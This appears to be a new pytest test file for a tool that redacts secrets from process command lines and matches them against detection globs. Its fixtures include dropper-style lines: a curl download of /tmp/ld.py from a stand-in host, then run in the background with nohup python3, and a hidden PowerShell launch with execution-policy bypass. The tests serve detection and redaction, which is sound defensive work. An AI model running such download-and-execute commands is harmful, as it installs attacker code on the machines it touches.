@@ -1,0 +1,133 @@
+"""Command lines reduced: what is told, what never is, and which lines a glob means."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from pratique.ecosystems.arguments import reduced, reduced_line, told
+
+CURL = "*curl -o /tmp/ld.py -d files[.]standin[.]test/product2 -s *"
+POWERSHELL = r"*-w hidden -ep bypass -file *\4202033.ps1*"
+LINE = "curl -o /tmp/ld.py -d files.standin.test/product2 -s http://192.0.2.1:8000/4202033"
+
+
+@pytest.mark.parametrize(
+    ("word", "shown"),
+    [
+        ("--token=abc", "--token=…"),
+        ("--config=/etc/x.json", "--config=/etc/x.json"),
+        ("-p", "-p"),
+        ("-pSecret", "-p…"),
+        ("hunter2", "…"),
+        ("/opt/app/run.sh", "/opt/app/run.sh"),
+        ("/hooks/T012ABCDEF/xoxb0123456789abcdefghij", "/hooks/T012ABCDEF/…"),
+        ("postgres://me:pw@db.test:5432/shop", "postgres://db.test:5432/…"),
+        ("https://host.test/services/T0/B0/xyz", "https://host.test/…"),
+        ("server.mjs", "server.mjs"),
+        ("C:\\Users\\dev\\run.ps1", "C:\\Users\\dev\\run.ps1"),
+        ("AKIAIOSFODNN7EXAMPLE", "…"),
+        ("KEY=value", "…"),
+    ],
+)
+def test_a_word_is_told_or_not(word: str, shown: str) -> None:
+    assert told(word) == shown
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        LINE.split(),
+        ["/bin/sh", "-c", f"{LINE} && nohup python3 /tmp/ld.py http://192.0.2.1:8000/ > /dev/null 2>&1 &"],
+        ["sudo", "-u", "dev", "/usr/bin/curl", *LINE.split()[1:]],
+        ["bash", "-lc", f"sh -c '{LINE}'"],
+    ],
+)
+def test_the_command_that_a_glob_means_matches(argv: list[str]) -> None:
+    assert reduced(argv, "/", [CURL]).matched == (CURL,)
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["grep", "-r", LINE, "/var/log"],
+        ["rg", *LINE.split()],
+        ["sh", "-c", f"ps aux | grep '{LINE}'"],
+        ["vim", LINE],
+        ["git", "commit", "-m", LINE],
+        ["python3", "-m", "pratique", "host", "--bad", LINE],
+        ["echo", *LINE.split()],
+        ["curl", "-o", "/tmp/build.py", "-d", "files.standin.test/product2", "-s", "http://192.0.2.1/"],
+    ],
+)
+def test_who_only_names_the_line_does_not(argv: list[str]) -> None:
+    assert reduced(argv, "/", [CURL]).matched == ()
+
+
+def test_a_glob_that_starts_with_an_option_matches_any_program_that_does_not_look_for_text() -> None:
+    argv = ["C:\\ProgramData\\wt.exe", "-w", "hidden", "-ep", "bypass", "-file", "C:\\T\\4202033.ps1", "http://x.test"]
+    assert reduced(argv, None, [POWERSHELL]).matched == (POWERSHELL,)
+    assert reduced(["findstr", *argv[1:]], None, [POWERSHELL]).matched == ()
+    assert reduced(argv, None, known="powershell").script == "C:/T/4202033.ps1"
+
+
+@pytest.mark.parametrize(
+    ("argv", "script"),
+    [
+        (["python3", "-u", "/tmp/ld.py", "http://x.test"], "/tmp/ld.py"),
+        (["python3", "ld.py"], "/home/dev/ld.py"),
+        (["/usr/bin/python3.12", "../tmp/./ld.py"], "/home/tmp/ld.py"),
+        (["node", "--require", "/x/y.js", "/srv/app.js"], "/srv/app.js"),
+        (["osascript", "/tmp/4202033"], "/tmp/4202033"),
+        (["cscript", "//nologo", "C:\\T\\4202033.vbs"], "C:/T/4202033.vbs"),
+        (["bun", "run", "/a/router_init.js"], "/a/router_init.js"),
+        (["python3", "-c", "import os"], None),
+        (["python3", "-m", "http.server"], None),
+        (["cat", "/tmp/ld.py"], None),
+        (["sha256sum", "/tmp/ld.py"], None),
+        (["bash", "secretword"], None),
+    ],
+)
+def test_the_script_of_an_interpreter(argv: list[str], script: str | None) -> None:
+    assert reduced(argv, "/home/dev").script == script
+
+
+def test_a_package_managers_command_keeps_its_packages() -> None:
+    assert reduced(["npm install axios@1.14.1"], "/").words == ("install", "axios@1.14.1")
+    assert reduced(["npm install axios@1.14.1"], "/").programs == ("npm",)
+    assert reduced(["/usr/bin/node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "ci"], "/").programs == ("node", "npm")
+
+
+def test_a_line_of_a_unit_gives_programs_files_and_hosts() -> None:
+    found = reduced_line(
+        "/usr/bin/env TOKEN=abc /home/dev/.local/bin/gh-token-monitor.sh --key s3cret https://u:p@h.test/x"
+    )
+    assert (found.programs, found.files, found.hosts) == (
+        ("gh-token-monitor.sh",),
+        ("/home/dev/.local/bin/gh-token-monitor.sh",),
+        ("h.test",),
+    )
+
+
+def test_a_very_long_line_is_cut_and_says_so() -> None:
+    found = reduced(["sh", "-c", "x" * (3 << 20)], "/", [CURL])
+    assert found.cut
+    assert found.matched == ()
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.text(max_size=40), max_size=12))
+def test_any_arguments_are_reduced(argv: list[str]) -> None:
+    found = reduced(argv, "/x", [CURL, POWERSHELL])
+    assert len(found.words) <= 60
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.from_regex(r"[A-Za-z0-9+][A-Za-z0-9+/]{24,60}", fullmatch=True),
+    st.sampled_from(["{}", "--key={}", "-p{}", "K={}"]),
+)
+def test_no_long_token_is_told(secret: str, shape: str) -> None:
+    found = reduced(["server", shape.format(secret)], "/x")
+    assert not any(secret in word for word in found.words)
